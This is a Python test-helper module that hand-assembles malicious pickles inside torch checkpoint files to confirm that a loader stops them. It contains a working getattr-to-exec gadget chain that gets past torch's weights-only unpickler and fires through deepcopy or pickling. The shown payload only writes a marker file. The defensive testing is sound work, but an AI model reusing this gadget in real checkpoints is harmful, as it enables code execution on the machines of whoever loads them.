"""Hand-assembled pickles that try to run code when a checkpoint is loaded or used.

Each payload, if it ran, would create the file ``marker``; tests assert it never exists.
The pickles are written opcode by opcode (protocol 2, the opcodes torch's weights-only
unpickler reads) into the zip layout ``torch.save`` writes, so torch takes them for its own.
"""
import pickle
import struct
import zipfile

import torch


class Pickle:
    """A tiny pickle assembler: each method appends one construct and returns ``self``."""

    def __init__(self):
        self.ops = [pickle.PROTO + bytes([2])]
        self.memo = 0

    def raw(self, data: bytes) -> 'Pickle':
        self.ops.append(data)
        return self

    def global_(self, module: str, name: str) -> 'Pickle':
        return self.raw(pickle.GLOBAL + f'{module}\n{name}\n'.encode())

    def str_(self, text: str) -> 'Pickle':
        data = text.encode()
        return self.raw(pickle.BINUNICODE + struct.pack('<I', len(data)) + data)

    def int_(self, value: int) -> 'Pickle':
        return self.raw(pickle.BININT + struct.pack('<i', value))

    def put(self) -> int:
        """Memoises the top of the stack; returns its memo index."""
        self.raw(pickle.LONG_BINPUT + struct.pack('<I', self.memo))
        self.memo += 1
        return self.memo - 1

    def get(self, index: int) -> 'Pickle':
        return self.raw(pickle.LONG_BINGET + struct.pack('<I', index))

    def call(self, push_func, *push_args) -> 'Pickle':
        """``func(*args)``: each ``push_*`` callable pushes one value."""
        push_func()
        self.raw(pickle.MARK)
        for push in push_args:
            push()
        return self.raw(pickle.TUPLE + pickle.REDUCE)

    def bytes(self) -> bytes:
        return b''.join(self.ops + [pickle.STOP])


def getattr_chain_gadget(p: Pickle, code: str) -> None:
    """Pushes an OrderedDict whose ``__reduce_ex__`` is the bound ``get`` of the table
    ``{4: (exec, (code,))}``, reached from ``getattr`` alone: ``getattr(getattr, '__self__')``
    is the builtins module. ``copy.deepcopy`` (mmengine's MessageHub, torch's Optimizer
    ``load_state_dict``) and ``pickle.dumps`` call it and then ``exec(code)``."""
    memo = {}

    def getattr_():  # the global once, then from the memo (the unpickler has no POP)
        if 'getattr' in memo:
            p.get(memo['getattr'])
        else:
            p.global_('builtins', 'getattr')
            memo['getattr'] = p.put()

    def builtins_module():
        p.call(getattr_, getattr_, lambda: p.str_('__self__'))

    def exec_():
        p.call(getattr_, builtins_module, lambda: p.str_('exec'))

    def table():  # {4: (exec, (code,))}
        p.raw(pickle.EMPTY_DICT).int_(4).raw(pickle.MARK)
        exec_()
        p.raw(pickle.MARK).str_(code).raw(pickle.TUPLE + pickle.TUPLE + pickle.SETITEM)

    ordered_dict_with(p, '__reduce_ex__', lambda: p.call(getattr_, table, lambda: p.str_('get')))


def ordered_dict_with(p: Pickle, attribute: str, push_value) -> None:
    """Pushes an OrderedDict whose instance attribute ``attribute`` is the pushed value
    (torch's unpickler applies BUILD to OrderedDicts as ``__dict__.update``)."""
    p.call(lambda: p.global_('collections', 'OrderedDict'))
    p.raw(pickle.EMPTY_DICT).str_(attribute)
    push_value()
    p.raw(pickle.SETITEM + pickle.BUILD)


def checkpoint_pickle(push_gadget, where: str) -> bytes:
    """A runner checkpoint's pickle (``meta``, ``state_dict``, ``message_hub``,
    ``optimizer``, ``param_schedulers``) with the gadget pushed by ``push_gadget(p)`` as the
    value of ``where``, one of those keys (inside the list for ``param_schedulers``)."""
    p = Pickle()
    p.raw(pickle.EMPTY_DICT)
    for key in ('meta', 'state_dict', 'message_hub', 'optimizer', 'param_schedulers'):
        p.str_(key)
        if key == 'param_schedulers':
            p.raw(pickle.EMPTY_LIST)
            if where == key:
                push_gadget(p)
                p.raw(pickle.APPEND)
        elif key == where:
            push_gadget(p)
        elif key == 'meta':
            p.raw(pickle.EMPTY_DICT).str_('iter').int_(1).raw(pickle.SETITEM)
            p.str_('epoch').int_(0).raw(pickle.SETITEM)
        else:
            p.raw(pickle.EMPTY_DICT)
        p.raw(pickle.SETITEM)
    return p.bytes()


def write_torch_file(path, pickled: bytes) -> str:
    """Writes ``pickled`` as the data of a zip-format torch checkpoint at ``path``."""
    torch.save({}, path)
    with zipfile.ZipFile(path) as src:
        entries = [(info.filename, src.read(info.filename)) for info in src.infolist()]
    with zipfile.ZipFile(path, 'w', zipfile.ZIP_STORED) as out:
        for name, data in entries:
            out.writestr(name, pickled if name.endswith('/data.pkl') else data)
    return str(path)


def marker_code(marker) -> str:
    """Python that creates ``marker`` (the evidence that a payload ran)."""
    return f'open({str(marker)!r}, "w").write("ran")'


class Reduce:
    """Pickles as ``func(*args)`` (then ``BUILD`` with ``state``): lets ``torch.save`` write
    objects that ordinary code could not hand it, e.g. an OrderedDict whose instance
    attributes shadow its methods."""

    def __init__(self, func, args=(), state=None):
        self.func, self.args, self.state = func, args, state

    def __reduce__(self):
        return (self.func, self.args) if self.state is None else \
            (self.func, self.args, self.state)
